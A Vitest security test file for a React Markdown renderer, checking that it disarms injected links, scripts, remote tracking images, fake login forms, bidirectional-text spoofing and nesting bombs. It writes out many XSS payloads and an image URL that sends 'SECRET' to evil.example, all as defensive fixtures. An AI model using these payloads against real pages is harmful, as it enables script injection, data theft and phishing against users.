import { cleanup, fireEvent, render, screen } from '@testing-library/react'
import { renderToString } from 'react-dom/server'
import { afterEach, expect, test, vi } from 'vitest'
import { userEvent } from 'vitest/browser'
import { threadTimeMs } from '../fixtures/threadTimeMs.ts'
import { math } from '../math/math.ts'
import { brokenRules } from './fixtures/brokenRules.ts'
import { comparable } from './fixtures/showMarkdown.tsx'
import { Markdown } from './Markdown.tsx'
import { MarkdownBoundary } from './MarkdownBoundary.tsx'
import type { FenceComponentProps, MarkdownSettings } from './MarkdownContext.ts'

afterEach(cleanup)

function shown(text: string, settings: MarkdownSettings = {}): HTMLElement {
  cleanup()
  return render(<Markdown text={text} {...settings} />).container
}

const dangerous = [
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java&#10;script:alert(1))',
  '[a](&#x6A;avascript:alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](vbscript:x)',
  '[a](//evil.example/)',
  '[a](https:evil.example)',
  '[a](https:\\\\evil.example)',
  '[a][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![a](javascript:alert(1))',
  '![a](data:image/svg+xml,<svg/onload=alert(1)>)',
]

test.each(dangerous)('%s leads nowhere, and its text stays (T-47)', (text) => {
  const page = shown(text)
  expect(page.querySelector('[href], [src]')).toBeNull()
  expect(page.textContent).toContain('a')
})

test('a remote image is a button that names its host; nothing is fetched until it is pressed (T-48)', () => {
  const page = shown(
    '![secret](https://evil.example/?d=SECRET) ![r][i]\n\n[i]: https://evil.example/i.png',
  )
  expect(page.querySelector('img, picture, source, link')).toBeNull()
  const [button] = screen.getAllByRole('button', { name: /Load image from evil\.example/ })
  fireEvent.click(button as HTMLElement)
  expect(page.querySelector('img')?.getAttribute('src')).toBe('https://evil.example/?d=SECRET')
  expect(page.querySelector('img')?.getAttribute('referrerpolicy')).toBe('no-referrer')
})

test.each([
  'http://cdn.chat.example/a.png',
  'https://cdn.chat.example:8443/a.png',
  'https://cdn.chat.example.evil.example/a.png',
  'https://cdn.chat.example@evil.example/a.png',
  'https://evil.example/https://cdn.chat.example/a.png',
  'https://www.cdn.chat.example/a.png',
  'https://cdn.chat.example./a.png',
  '//cdn.chat.example/a.png',
])('%s is not of the allowed origin (T-48)', (url) => {
  const allowed = ['https://cdn.chat.example', 'http://cdn.chat.example']
  const page = shown(`![x](${url})`, { allowedImageOrigins: allowed })
  expect(page.querySelector('img')).toBeNull()
})

test.each([
  'https://cdn.chat.example/a.png',
  'https://cdn.chat.example:443/a.png',
  'HTTPS://CDN.chat.example/a.png',
  'https://user@cdn.chat.example/a.png',
])('%s is of the allowed origin, and shown (T-48)', (url) => {
  const page = shown(`![x](${url})`, { allowedImageOrigins: ['https://cdn.chat.example'] })
  expect(page.querySelector('img')?.getAttribute('src')).toBe(url)
})

test('on a server nothing is preloaded either, not even what is allowed (T-50)', () => {
  const html = renderToString(<Markdown text="![x](https://evil.example/x.png)" />)
  expect(html).not.toContain('<img')
  expect(html).not.toContain('preload')
  const allowed = renderToString(
    <Markdown text="![x](https://a.example/x.png)" allowedImageOrigins={['https://a.example']} />,
  )
  expect(allowed).toContain('<img')
  expect(allowed).not.toContain('preload')
})

test('no prefix of an image or a link fetches or leads anywhere (T-49)', () => {
  const text = 'See ![x](https://a.example/a.png?q=1) and [y](https://example.org/path) end'
  const { container, rerender } = render(<Markdown text="" />)
  const seen = new Set<string | null>()
  for (let end = 1; end <= text.length; end++) {
    rerender(
      <Markdown text={text.slice(0, end)} streaming allowedImageOrigins={['https://a.example']} />,
    )
    for (const element of container.querySelectorAll('[src], [href]')) {
      seen.add(element.getAttribute('src') ?? element.getAttribute('href'))
    }
  }
  expect([...seen]).toEqual(['https://a.example/a.png?q=1', 'https://example.org/path'])
})

test('raw HTML is text (T-51, T-57)', () => {
  const html =
    '<script>alert(1)</script>\n\n<form><input name=x></form> <img src=x onerror=alert(1)> <b>bold</b>'
  const page = shown(html)
  expect(page.querySelector('script, form, input, img, b, iframe, style')).toBeNull()
  expect(page.textContent.replaceAll(/\s+/g, ' ')).toBe(html.replaceAll(/\s+/g, ' '))
})

test('ids are prefixed by message, so that none can stand for another (T-52)', () => {
  const page = shown('A[^constructor] b[^__proto__]\n\n[^constructor]: note\n[^__proto__]: other')
  const ids = [...page.querySelectorAll('[id]')].map(({ id }) => id)
  expect(ids).toHaveLength(5)
  for (const id of ids) expect(id).toMatch(/^_r_\w+_-/)
})

test('names of objects are names like others: of references, of notes, of languages (T-52)', () => {
  const page = shown(
    '[a][__proto__] [b][constructor]\n\n[__proto__]: https://a.example/\n\n```toString\nc\n```',
    {
      fences: {},
    },
  )
  expect([...page.querySelectorAll('a')].map(({ href }) => href)).toEqual(['https://a.example/'])
  expect(page.textContent).toContain('[b][constructor]')
  expect(page.querySelector('code')?.textContent).toBe('c')
})

test.each([
  ['quotes', '> '.repeat(5000)],
  ['lists', '- '.repeat(3000)],
  ['numbered lists', '1. '.repeat(3000)],
  ['brackets', '['.repeat(20_000)],
  ['images', '![a]('.repeat(10_000)],
])('%s nested without end are shown plain, quickly (T-53)', async (_, bomb) => {
  let page = document.body
  const tookMs = await threadTimeMs(() => {
    page = shown(`${bomb}x`)
  })
  expect(tookMs).toBeLessThan(20_000)
  expect(page.querySelector('[data-plain]')).not.toBeNull()
  expect(page.textContent).toContain(bomb.slice(0, 1000))
})

test('a message over a megabyte is shown up to there, the rest when it is asked for (T-53)', async () => {
  const text = `${'word\n\n'.repeat(10)}${'x'.repeat(60_000)}\n${'word '.repeat(209_000)}end`
  const page = shown(text)
  const whole = async (): Promise<void> => {
    await vi.waitFor(() => expect(page.querySelector('[data-partial]')).toBeNull(), 20_000)
  }
  await whole()
  const left = (text.length - 2 ** 20).toLocaleString('en')
  fireEvent.click(screen.getByRole('button', { name: `Show more (${left} characters)` }))
  await whole()
  expect(page.textContent.endsWith('word end')).toBe(true)
})

test('a message that cannot be drawn is shown plain and takes nothing with it (T-53)', () => {
  const errors = vi.spyOn(console, 'error').mockImplementation(() => undefined)
  function Broken(): never {
    throw new RangeError('Maximum call stack size exceeded')
  }
  render(
    <>
      <MarkdownBoundary text="the text" notice="plain">
        <Broken />
      </MarkdownBoundary>
      <p>the rest</p>
    </>,
  )
  expect(document.body.textContent).toContain('the text')
  expect(document.body.textContent).toContain('the rest')
  errors.mockRestore()
})

test('formulas are text unless they are asked for, and never more than formulas (T-54)', () => {
  const text = '$$\\href{javascript:alert(1)}{x} \\htmlId{location}{y}$$'
  expect(shown(text).querySelector('math, [data-part="math"]')).toBeNull()
  const page = shown(text, math())
  expect(page.querySelectorAll('math')).toHaveLength(1)
  expect(page.querySelector('[href], [id], [style]')).toBeNull()
})

test('a component for a fence is shown once the fence is complete; without one it is code (T-54)', () => {
  const text = 'A:\n\n```mermaid\ngraph TD\nclick A "javascript:alert(1)"\n```\n\nB'
  const sources: string[] = []
  function Diagram({ code }: FenceComponentProps): string {
    sources.push(code)
    return 'diagram'
  }
  const { container, rerender } = render(<Markdown text="" />)
  const closed = text.indexOf('```\n\nB') + '```\n'.length
  for (let end = 1; end <= text.length; end++) {
    rerender(<Markdown text={text.slice(0, end)} streaming fences={{ mermaid: Diagram }} />)
    if (end < closed - 1) expect(container.textContent).not.toContain('diagram')
  }
  expect(new Set(sources)).toEqual(new Set(['graph TD\nclick A "javascript:alert(1)"']))
  expect(container.textContent).toContain('diagram')
  expect(shown(text).querySelector('code')?.textContent).toContain('click A')
})

const override = '\u202emoc.knab\u202c'

test.each([
  ['a paragraph', `${override} x`],
  ['a heading', `# ${override} x`],
  ['a quote', `> ${override} x`],
  ['an item', `- ${override} x`],
  ['a cell', `| a |\n| - |\n| ${override} |`],
  ['a link', `[${override}](https://evil.example/) x`],
  ['a link that leads nowhere', `[${override}](javascript:alert(1)) x`],
  ['an image that is blocked', `![${override}](javascript:alert(1)) x`],
  ['an image in a link', `[![${override}](https://evil.example/a.png)](https://a.example) x`],
  ['an image', `![${override}](https://evil.example/a.png) x`],
  ['code in a sentence', `\`${override}\` x`],
  ['code', `\`\`\`js ${override}\n${override}\n\`\`\``],
  ['a language', `\`\`\`${override}\nx\n\`\`\``],
  ['a note', `a[^1]\n\n[^1]: ${override} x`],
  ['text that is too deep', `${'> '.repeat(200)}${override}`],
])('what turns text around in %s turns nothing around it (T-55)', (_, text) => {
  const page = shown(text)
  const walker = document.createTreeWalker(page, NodeFilter.SHOW_TEXT)
  let found = 0
  while (walker.nextNode() !== null) {
    const { data, parentElement } = walker.currentNode as Text
    if (!data.includes('\u202e')) continue
    found++
    const around = parentElement?.closest('[dir], bdi, button, td') ?? page
    const { unicodeBidi, display } = getComputedStyle(around)
    // A box of its own is apart in any case.
    expect(/isolate/.test(unicodeBidi) || /block|cell/.test(display), around.outerHTML).toBe(true)
    if (parentElement?.closest('code') !== null && parentElement !== null) {
      expect(parentElement.matches('bdi[data-part="bidi-mark"][data-code="U+202E"]')).toBe(true)
    }
  }
  expect(found).toBeGreaterThan(0)
})

test('two bidirectional texts in one sentence are apart: the words between them stay in place (T-55)', () => {
  const page = shown('`\u202ea` between [\u202eb](https://evil.example/) after')
  const [between] = page.querySelectorAll('code')
  const range = document.createRange()
  const words = between?.nextSibling
  if (words === null || words === undefined) throw new TypeError('No words.')
  range.setStart(words, 1)
  range.setEnd(words, 2)
  const first = range.getBoundingClientRect()
  range.setStart(words, 7)
  range.setEnd(words, 8)
  expect(first.left).toBeLessThan(range.getBoundingClientRect().left)
})

test.each([
  ['https://bank.example@evil.example/login', 'evil.example'],
  ['https://аррӏе.example/', 'xn--80ak6aa92e.example'],
  ['https://EVIL.example:8443/', 'evil.example:8443'],
  ['http://2130706433/', '127.0.0.1'],
  ['https://evil.example%2F.bank.example/', undefined],
  ['https://bank.example\\\\@evil.example/', 'evil.example'],
])('%s names where it leads (T-55, T-58)', (url, host) => {
  const link = shown(`[bank.example](<${url}> "bank.example")`).querySelector('a')
  expect(link?.title).toBe(host === undefined ? undefined : `${host} · bank.example`)
  expect(link?.host).toBe(host)
})

test('what is copied has nothing in it that the page has not (T-56)', async () => {
  const page = shown(
    [
      'Some *text*, [a link](https://a.example/ "t"), [no link](javascript:alert(1))',
      '<img src=x onerror=alert(1)> ![x](https://evil.example/?d=SECRET)',
      '```html\n<script>alert(1)</script>\n```',
      '| a | b |\n| - | - |\n| 1 | <b onclick=alert(1)>2</b> |',
      '- [ ] one\n\nA[^1]\n\n[^1]: note',
    ].join('\n\n'),
  )
  const { title } = document
  const [html, plain] = await copied(page)
  const template = document.createElement('template')
  template.innerHTML = html
  expect(template.content.querySelector('em')?.textContent).toBe('text')
  expect(plain).toContain('<script>alert(1)</script>')
  // A browser writes down how things look, and which page a place is in.
  for (const element of template.content.querySelectorAll('[style]')) {
    expect(element.getAttribute('style')).not.toMatch(/url\(|position|@/)
    element.removeAttribute('style')
  }
  for (const link of template.content.querySelectorAll('a')) {
    if (link.href.startsWith(`${location.href}#`)) link.setAttribute('href', link.hash)
  }
  for (const element of template.content.querySelectorAll('meta, br.Apple-interchange-newline')) {
    element.remove()
  }
  expect(brokenRules(template.content)).toEqual([])
  expect(document.title).toBe(title)
})

/** What the browser puts on the clipboard for a page, as HTML and as plain text: what it would paste. */
async function copied(page: HTMLElement): Promise<readonly [html: string, plain: string]> {
  const target = document.body.appendChild(document.createElement('div'))
  target.contentEditable = 'true'
  target.textContent = 'Paste here'
  await userEvent.click(target)
  getSelection()?.selectAllChildren(page)
  document.execCommand('copy')
  const pasted = new Promise<readonly [string, string]>((resolve) => {
    target.addEventListener('paste', (event) => {
      event.preventDefault()
      const { clipboardData: data } = event
      resolve([data?.getData('text/html') ?? '', data?.getData('text/plain') ?? ''])
    })
  })
  await userEvent.click(target)
  await userEvent.paste()
  target.remove()
  return await pasted
}

test('nothing of an answer can be pressed or filled in but what is ours (T-57)', () => {
  const page = shown(
    [
      '<form action="https://evil.example"><input type=password><button>Log in</button></form>',
      '![Session expired: log in](https://evil.example/a.png)',
      '- [x] <button>Retry</button>',
      '<dialog open>Session expired</dialog> <div data-part="banner" class="alert">x</div>',
    ].join('\n\n'),
  )
  const controls = [
    ...page.querySelectorAll<HTMLElement>(
      'button, input, select, textarea, dialog, [tabindex], [contenteditable]',
    ),
  ]
  expect(controls.map((element) => element.dataset['part'] ?? element.ariaLabel)).toEqual([
    'image-placeholder',
    'Done',
  ])
  expect(controls[0]?.textContent).toBe('Load image from evil.example: Session expired: log in')
  expect(controls[1]?.matches(':disabled')).toBe(true)
  expect(page.querySelector('[data-part="banner"], .alert')).toBeNull()
})

test('links open apart and give nothing away (T-58)', () => {
  const page = shown(
    '[x](https://example.org/) <https://a.example/> www.b.example [y](https://c.example "t")',
  )
  const links = [...page.querySelectorAll('a')]
  expect(links).toHaveLength(4)
  for (const link of links) {
    expect(link.target).toBe('_blank')
    expect(link.rel).toBe('noopener noreferrer nofollow')
    expect(link.dataset['external']).toBe('')
  }
  expect(links.map(({ title }) => title)).toEqual([
    'example.org',
    'a.example',
    'www.b.example',
    'c.example · t',
  ])
})

test('a streamed text ends as the page it would have been at once', () => {
  const text = [
    '# Title\n\nSome *text* with `code`.\n\n',
    '| a | b |\n| - | - |\n| 1 | 2 |\n\n- [ ] one\n- [x] two\n\n',
    '```ts\nconst x = 1\n```\n\n> quote\n',
  ].join('')
  const { container, rerender } = render(<Markdown text="" />)
  for (let end = 1; end <= text.length; end++) rerender(<Markdown text={text.slice(0, end)} />)
  const streamed = comparable(container)
  expect(streamed).toBe(comparable(shown(text)))
})
